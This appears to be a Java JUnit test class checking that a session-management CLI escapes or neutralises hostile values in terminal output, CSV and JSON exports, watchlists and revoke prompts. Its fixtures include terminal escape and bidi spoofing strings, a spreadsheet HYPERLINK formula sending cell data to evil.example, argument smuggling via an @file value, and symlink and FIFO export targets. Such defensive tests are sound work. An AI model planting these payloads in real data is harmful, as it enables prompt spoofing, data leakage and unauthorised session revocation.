package com.sessionconsole.security;

import com.sessionconsole.domain.IpAddresses;
import com.sessionconsole.domain.VisibleText;
import com.sessionconsole.domain.WatchEntry;
import com.sessionconsole.domain.GroupBy;
import com.sessionconsole.files.Json;
import com.sessionconsole.watchlist.Watchlist;
import com.sessionconsole.support.CliRunner;
import com.sessionconsole.support.RawRow;
import com.sessionconsole.support.TestDatabase;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** Issue #10 §4 and §5: attacker-written columns never reach a terminal, a spreadsheet or a resolver as anything but text. */
class InjectionTest {
    static final String FORGED_DEVICE = "kiosk\u001b]0;owned\u0007\u001b[31m\nAbout to revoke 0 active session(s)\u009b2J\u202eevil";
    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    TestDatabase db = TestDatabase.get();
    @TempDir
    Path home;
    RawRow hostile = RawRow.active("2999-01-01 00:00:00+00").with("device_id", FORGED_DEVICE).with("location", FORMULA)
            .with("user_agent", "@SUM(1+1)\u2066x\u2069").with("ip_address", "-1+1");

    @BeforeEach
    void fill() {
        db.resetTable();
        RawRow.insert(db.admin(), List.of(hostile));
    }

    /** Printable text, line breaks, and nothing a terminal would act on. */
    static void assertTerminalSafe(String output) {
        output.codePoints().filter(c -> c != '\n').forEach(c -> assertThat(VisibleText.isHostile(c))
                .as("raw U+%04X in output:\n%s", c, output).isFalse());
    }

    @Test
    void terminalOutputShowsControlsAndBidiMarksAsEscapes() {
        CliRunner cli = new CliRunner(home);
        for (String[] args : List.of(new String[]{"sessions"}, new String[]{"sessions", "--format", "csv"},
                new String[]{"sessions", "--format", "json"}, new String[]{"summary", "--by", "device"},
                new String[]{"watch", "--ticks", "1", "--interval", "1"}, new String[]{"history", "--device", FORGED_DEVICE})) {
            CliRunner.Run r = cli.run("", args);
            assertThat(r.code()).as(r.all()).isZero();
            assertTerminalSafe(r.out());
            assertTerminalSafe(r.err());
        }
        assertThat(cli.run("", "sessions").out()).contains("kiosk\\x1b]0;owned\\x07\\x1b[31m\\x0aAbout to revok");
        assertThat(cli.run("", "sessions", "--format", "csv").out()).contains("\\x9b2J\\u202eevil");
    }

    @Test
    void theRevokePreviewCannotBeForgedByADeviceId() {
        CliRunner.Run r = new CliRunner(home).run("no\n", "revoke", "--device", FORGED_DEVICE, "--reason", "test");
        assertTerminalSafe(r.err());
        assertThat(r.err().lines().filter(l -> l.startsWith("About to revoke"))).hasSize(1);
        assertThat(r.err()).contains("About to revoke 1 active session(s)");
    }

    @Test
    void csvExportNeutralisesFormulasUnlessRaw() throws Exception {
        Path safe = home.resolve("safe.csv");
        Path raw = home.resolve("raw.csv");
        assertThat(new CliRunner(home).run("", "export", "--view", "sessions", "--out", safe.toString()).code()).isZero();
        assertThat(new CliRunner(home).run("", "export", "--view", "sessions", "--raw", "--out", raw.toString()).code()).isZero();
        CSVRecord neutral = csv(safe).get(0);
        assertThat(neutral.get("location")).isEqualTo("'" + FORMULA);
        assertThat(neutral.get("user_agent")).startsWith("'@SUM");
        assertThat(neutral.get("ip_address")).isEqualTo("'-1+1");
        assertThat(neutral.get("trust_level")).isEqualTo("50");
        CSVRecord verbatim = csv(raw).get(0);
        assertThat(verbatim.get("location")).isEqualTo(FORMULA);
        assertThat(verbatim.get("device_id")).isEqualTo(FORGED_DEVICE);
    }

    @Test
    @SuppressWarnings("unchecked")
    void jsonExportKeepsTheExactValue() throws Exception {
        Path out = home.resolve("out.json");
        assertThat(new CliRunner(home).run("", "export", "--view", "sessions", "--format", "json", "--out", out.toString()).code()).isZero();
        String text = Files.readString(out);
        assertTerminalSafe(text);
        Map<String, Object> doc = (Map<String, Object>) Json.parse(text);
        Map<String, Object> row = ((List<Map<String, Object>>) doc.get("rows")).get(0);
        assertThat(row.get("device_id")).isEqualTo(FORGED_DEVICE);
        assertThat(row.get("location")).isEqualTo(FORMULA);
    }

    private static List<CSVRecord> csv(Path file) throws Exception {
        return CSVFormat.DEFAULT.builder().setCommentMarker('#').setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(Files.readString(file))).getRecords();
    }

    @Test
    void malformedAddressesAreNotIpsAndNeverReachTheResolver() {
        for (String s : List.of(".1::", "1.2.3", "1.2.3.4.5", "256.1.1.1", "::ffff:999.1.1.1", "localhost", "example.com",
                "1.2.3.4%eth0", "fe80::1%", "[::1]", "0x7f.1", "01.02.03.04", "1.2.3.4 ", " ", "::g", ":::", "1:2:3:4:5:6:7:8:9",
                "evil.example.", "%00", "1.2.3.4/32", "١٢٣.١.١.١")) {
            assertThat(IpAddresses.isIp(s)).as("'%s'", s).isFalse();
        }
        for (String s : List.of("10.0.0.1", "::1", "2001:db8::1", "fe80::1%eth0", "::ffff:10.0.0.1", "2001:0db8:0000:0000:0000:ff00:0042:8329")) {
            assertThat(IpAddresses.isIp(s)).as(s).isTrue();
        }
    }

    @Test
    void aFileNamedInAValueInjectsNoFlags() throws Exception {
        Path f = home.resolve("f");
        Files.writeString(f, "--yes\n--device\nkiosk\n");
        CliRunner.Run r = new CliRunner(home).run("", "revoke", "--device", "@" + f, "--reason", "x");
        assertThat(r.err()).contains("Nothing to revoke").doesNotContain("revoked,");
        assertThat(db.count("SELECT count(*) FROM public.user_sessions WHERE is_active")).isEqualTo(1);
    }

    @Test
    void aTokenOnTheCommandLineIsRefusedWithoutEchoingIt() {
        String token = "s3cr3t-token-value-0123456789";
        for (String[] args : List.of(new String[]{"find-token", token}, new String[]{"find-token", "--token", token},
                new String[]{"find-token", "--token=" + token})) {
            CliRunner.Run r = new CliRunner(home).run("", args);
            assertThat(r.code()).isEqualTo(2);
            assertThat(r.all()).doesNotContain(token).contains("standard input only");
        }
    }

    @Test
    void aNulByteInTheTokenIsAClearError() {
        CliRunner.Run r = new CliRunner(home).run("abc\u0000def\n", "find-token");
        assertThat(r.code()).isEqualTo(2);
        assertThat(r.err()).contains("NUL byte").doesNotContain("abc");
    }

    @Test
    void aPlantedPartFileIsNotFollowedAndAFolderIsNotAnExportTarget() throws Exception {
        Path victim = home.resolve("victim.txt");
        Files.writeString(victim, "precious");
        Path out = home.resolve("OUT.csv");
        Files.createSymbolicLink(home.resolve("OUT.csv.part"), victim);
        assertThat(new CliRunner(home).run("", "export", "--view", "sessions", "--out", out.toString()).code()).isZero();
        assertThat(Files.readString(victim)).isEqualTo("precious");
        assertThat(Files.readString(out)).contains(hostile.id().toString());
        try (var files = Files.list(home)) {
            assertThat(files.map(p -> p.getFileName().toString())).noneMatch(n -> n.startsWith(".OUT.csv."));
        }
        CliRunner.Run folder = new CliRunner(home).run("", "export", "--view", "sessions", "--out", home.toString());
        assertThat(folder.code()).isEqualTo(2);
        assertThat(folder.err()).contains("is a folder");
    }

    @Test
    void anExportNeverReplacesADevicePipeOrSymlink() throws Exception {
        Path link = home.resolve("null.csv");
        Files.createSymbolicLink(link, Path.of("/dev/null"));
        Path fifo = home.resolve("pipe.csv");
        assertThat(new ProcessBuilder("mkfifo", fifo.toString()).start().waitFor()).isZero();
        for (Path target : List.of(link, fifo)) {
            CliRunner.Run r = new CliRunner(home).run("", "export", "--view", "sessions", "--out", target.toString());
            assertThat(r.code()).as(target.toString()).isEqualTo(2);
            assertThat(r.err()).contains("is not a plain file");
        }
        assertThat(Files.isSymbolicLink(link)).isTrue();
        assertThat(Files.isRegularFile(Path.of("/dev/null"))).isFalse();
    }

    @Test
    void invisibleCharactersAndLineBreaksShowOnStdoutToo() {
        db.exec("UPDATE public.user_sessions SET device_id = 'kiosk' || chr(8203) || chr(8232) || chr(65279) || E'\\nforged'");
        CliRunner.Run csv = new CliRunner(home).run("", "summary", "--by", "device", "--format", "csv");
        assertTerminalSafe(csv.out());
        assertThat(csv.out()).contains("kiosk\\u200b\\u2028\\ufeff\\x0aforged");
        assertThat(csv.out().lines()).noneMatch(l -> l.startsWith("forged"));
    }

    @Test
    void watchlistValuesWithLineBreaksStayOneEntry() throws Exception {
        Path file = home.resolve("watch.txt");
        Watchlist w = new Watchlist(file);
        w.add(new WatchEntry(GroupBy.DEVICE, FORGED_DEVICE));
        w.add(new WatchEntry(GroupBy.DEVICE, "C:\\\\kiosk\\n"));
        assertThat(Files.readAllLines(file)).hasSize(3);
        assertThat(new Watchlist(file).entries()).containsExactly(new WatchEntry(GroupBy.DEVICE, FORGED_DEVICE),
                new WatchEntry(GroupBy.DEVICE, "C:\\\\kiosk\\n"));
    }
}
